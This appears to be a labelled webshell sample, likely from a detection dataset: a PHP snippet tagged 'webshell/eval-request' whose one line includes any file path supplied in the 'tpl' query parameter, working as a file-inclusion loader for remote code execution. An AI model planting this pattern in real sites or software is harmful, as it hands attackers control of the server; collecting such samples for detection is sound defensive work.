<?php
// Family: webshell/eval-request
// Style: include of a request-chosen path
// Trait: include of a path taken from the request (remote or local file inclusion used as a loader)
if (!empty($_GET['tpl'])) { include($_GET['tpl']); }
